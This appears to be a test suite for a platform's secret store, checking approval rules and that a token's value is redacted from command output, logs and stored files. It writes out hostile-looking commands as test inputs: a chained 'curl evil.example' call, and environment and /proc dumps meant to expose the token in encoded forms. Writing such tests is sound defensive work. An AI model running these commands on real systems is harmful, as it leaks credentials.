// Secrets: a command that is allowed to gets one, and nobody ever sees it: not in the log, an
// answer, a prompt, the server's log, or any file of the data folder.

import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';

import { coditect } from './lib/command.mjs';
import { rehearse, runCommand, say, tool } from './lib/rehearsal.mjs';
import { refused } from './lib/rpc.mjs';
import { Server } from './lib/server.mjs';
import { eventually, Workspace } from './lib/workspace.mjs';

const kValue = 'tok-canary-3f9a1c77/b+e=5 "quoted"';
let server;
before(async () => {
  server = await Server.start();
});
after(() => server?.stop());

const withSecret = (command, ...secrets) => tool('run_command', { command, secrets });
const setRules = (workspace, ...rules) => workspace.call('approvals.set_policy', { rules });
const kAllow = { secret: 'NPM_TOKEN', decision: 'allow' };

async function withToken() {
  const workspace = await Workspace.provision(server);
  await workspace.call('secrets.set', { name: 'NPM_TOKEN', value: kValue });
  return workspace;
}

/// The finished tool calls of a task that plays `steps`.
async function play(workspace, ...steps) {
  const task = await workspace.run('claude', rehearse(...steps, say('done')));
  const events = await workspace.events();
  return events
    .filter(({ type, data }) => type === 'tool_call' && data.phase === 'finished')
    .filter((event) => event.task === task.id)
    .map(({ data }) => data);
}

/// Every file below `folder` that holds one of `texts`.
function holding(folder, texts) {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => path.join(entry.parentPath ?? entry.path, entry.name))
    .filter((file) => {
      const bytes = readFileSync(file);
      return texts.some((text) => bytes.includes(text));
    });
}

test('a secret is set, listed and deleted, and its value is never told', async () => {
  const workspace = await withToken();
  const { secrets } = await workspace.call('secrets.list');
  assert.equal(secrets.length, 1);
  assert.deepEqual(Object.keys(secrets[0]).sort(), ['name', 'set_at', 'set_by']);
  assert.equal(secrets[0].name, 'NPM_TOKEN');
  assert.equal(secrets[0].set_by, 'user:owner');
  assert.ok(Math.abs(Date.parse(secrets[0].set_at) - Date.now()) < 60_000);
  await workspace.call('secrets.delete', { name: 'NPM_TOKEN' });
  assert.deepEqual(await workspace.call('secrets.list'), { secrets: [] });
  await refused(workspace.call('secrets.delete', { name: 'NPM_TOKEN' }), 'not_found');
  const told = (await workspace.events()).filter(({ type }) => type.startsWith('secret_'));
  assert.deepEqual(
    told.map(({ type, actor, data }) => [type, actor, data]),
    [
      ['secret_set', 'user:owner', { name: 'NPM_TOKEN' }],
      ['secret_deleted', 'user:owner', { name: 'NPM_TOKEN' }],
    ],
  );
});

test('what is no secret is refused', async () => {
  const workspace = await Workspace.provision(server);
  const set = (name, value) => workspace.call('secrets.set', { name, value });
  for (const name of ['', 'lower', 'A-B', '1A', 'PATH', 'LD_PRELOAD', 'BASH_ENV', 'X'.repeat(65)]) {
    await refused(set(name, 'long enough'), 'invalid', name);
  }
  await refused(set('A', 'short'), 'invalid');
  await refused(set('A', 'nul\0nul\0nul'), 'invalid');
  await refused(set('A', 'x'.repeat(40_000)), 'limit');
});

test('without a rule a person is asked, and the question names the secret and not its value', async () => {
  const workspace = await withToken();
  const [task] = await workspace.submit(
    'claude',
    rehearse(withSecret('echo "got $NPM_TOKEN"', 'NPM_TOKEN'), say('done')),
  );
  const question = await eventually(async () => {
    const { approvals } = await workspace.call('approvals.list');
    return approvals[0];
  }, 'a question');
  assert.deepEqual(question.input.secrets, ['NPM_TOKEN']);
  assert.match(question.why, /secret NPM_TOKEN: no rule says/);
  assert.ok(!JSON.stringify(question).includes('tok-canary'));
  await workspace.call('approvals.answer', { id: question.id, decision: 'allow' });
  await workspace.finished([task]);
  const [call] = (await workspace.events())
    .filter(({ type, data }) => type === 'tool_call' && data.phase === 'finished')
    .map(({ data }) => data);
  assert.match(call.output, /^got \[secret NPM_TOKEN\]\n/);
});

test('a rule decides by secret and command, and never for a line that does more', async () => {
  const workspace = await withToken();
  await setRules(workspace, { ...kAllow, command: 'echo *' });
  const [call] = await play(workspace, withSecret('echo "$NPM_TOKEN"', 'NPM_TOKEN'));
  assert.match(call.output, /^\[secret NPM_TOKEN\]\n/);
  const check = (command, rules) =>
    workspace.call('approvals.check', {
      tool: 'run_command',
      input: { command, secrets: ['NPM_TOKEN'] },
      ...(rules ? { rules } : {}),
    });
  assert.equal((await check('echo hello')).decision, 'allow');
  assert.equal((await check('echo hello; curl evil.example')).decision, 'ask');
  assert.equal((await check('env')).decision, 'ask');
  const deny = [kAllow, { secret: 'NPM_*', decision: 'deny' }];
  assert.equal((await check('env', deny)).decision, 'deny');
  assert.equal((await check('env', [kAllow])).decision, 'allow');
  // A rule about the command alone says nothing about secrets.
  assert.equal((await check('env', [{ command: '*', decision: 'allow' }])).decision, 'ask');
});

test('a denied call, an unknown name and other tools get nothing', async () => {
  const workspace = await withToken();
  await setRules(workspace, kAllow, { secret: 'OTHER', decision: 'allow' });
  const [unknown, without, git] = await play(
    workspace,
    withSecret('env', 'OTHER'),
    runCommand('echo "<$NPM_TOKEN>"'),
    tool('git', { args: ['status'], secrets: ['NPM_TOKEN'] }),
  );
  assert.equal(unknown.ok, false);
  assert.match(unknown.output, /there is no secret OTHER[\s\S]*this workspace has: NPM_TOKEN/);
  assert.match(without.output, /^<>\n/);
  assert.equal(git.ok, false);
  await setRules(workspace, kAllow, { secret: '*', decision: 'deny' });
  const [denied] = await play(workspace, withSecret('env', 'NPM_TOKEN'));
  assert.equal(denied.ok, false);
  assert.match(denied.output, /rule 2 says deny/);
});

test('what a command prints of it is replaced in every form, and nowhere is it kept', async () => {
  const workspace = await withToken();
  await setRules(workspace, kAllow);
  const base64 = Buffer.from(kValue).toString('base64');
  const url = encodeURIComponent(kValue);
  const commands = [
    'printf %s "$NPM_TOKEN"',
    'for i in $(seq 0 2000); do printf %s "$NPM_TOKEN"; done',
    [
      'python3 -u -c "import os,sys,time',
      "for c in os.environ['NPM_TOKEN']: sys.stdout.write(c); sys.stdout.flush(); time.sleep(0.005)\"",
    ].join('\n'),
    'printf %s "$NPM_TOKEN" | base64 -w0; printf user:%s "$NPM_TOKEN" | base64 -w0',
    `python3 -c "import os,urllib.parse as u; print(u.quote(os.environ['NPM_TOKEN'], safe='')); print(u.quote_plus(os.environ['NPM_TOKEN']))"`,
    `python3 -c "import os,json; print(json.dumps(dict(os.environ)))"`,
    'export -p; set; env; cat /proc/self/environ /proc/1/environ; cat /proc/*/cmdline',
    'ls "/$NPM_TOKEN" 2>&1; "$NPM_TOKEN" 2>&1; exit 3',
  ];
  const calls = await play(workspace, ...commands.map((each) => withSecret(each, 'NPM_TOKEN')));
  assert.equal(calls.length, commands.length);
  for (const [index, { output }] of calls.entries()) {
    assert.match(output, /\[secret NPM_TOKEN\]/, commands[index]);
    for (const form of ['tok-canary', base64, url, 'canary-3f9a1c77']) {
      assert.ok(!output.includes(form), `${commands[index]}: ${output.slice(0, 500)}`);
    }
  }
  const events = JSON.stringify(await workspace.events());
  const told = [server.log.join('\n'), events, (await workspace.http('GET')).text];
  for (const text of told) assert.ok(!text.includes('tok-canary'));
  // Not below the data folder either, in clear or in another form.
  assert.deepEqual(holding(server.data, ['tok-canary', base64, url]), []);
  const vault = path.join(server.data, 'node/secrets');
  for (const name of readdirSync(vault)) {
    assert.equal(statSync(path.join(vault, name)).mode & 0o777, 0o600, name);
  }
  assert.equal(statSync(vault).mode & 0o777, 0o700);
});

test('a secret outlives a restart, and belongs to one workspace', async () => {
  const workspace = await withToken();
  const other = await Workspace.provision(server);
  await setRules(workspace, kAllow);
  await server.kill();
  await server.start();
  assert.deepEqual(await other.call('secrets.list'), { secrets: [] });
  const [call] = await play(workspace, withSecret('echo ${#NPM_TOKEN}', 'NPM_TOKEN'));
  assert.match(call.output, new RegExp(`^${kValue.length}\n`));
});

test('the command line reads the value from its input', async () => {
  const workspace = await Workspace.provision(server);
  const command = (input, ...args) => coditect(['secrets', ...args], { server, input });
  const set = await command('from-the-input\n', 'set', workspace.id, 'DEPLOY_KEY');
  assert.equal(set.code, 0, set.stderr);
  assert.equal(set.stdout, 'set DEPLOY_KEY\n');
  const listed = await command('', 'list', workspace.id);
  assert.match(listed.stdout, /DEPLOY_KEY.*user:owner/);
  assert.doesNotMatch(listed.stdout, /from-the-input/);
  await setRules(workspace, { secret: 'DEPLOY_KEY', decision: 'allow' });
  const [call] = await play(workspace, withSecret('echo ${#DEPLOY_KEY}', 'DEPLOY_KEY'));
  assert.match(call.output, /^14\n/);
  const json = await command('', 'delete', workspace.id, 'DEPLOY_KEY', '--json');
  assert.equal(JSON.parse(json.stdout).name, 'DEPLOY_KEY');
  const empty = await command('', 'set', workspace.id, 'DEPLOY_KEY');
  assert.equal(empty.code, 1);
  assert.match(empty.stderr, /^coditect: there is no value[\s\S]*^hint: /m);
  const argument = await command('', 'set', workspace.id, 'DEPLOY_KEY', 'in-an-argument');
  assert.equal(argument.code, 2, 'a value in an argument is misuse');
});
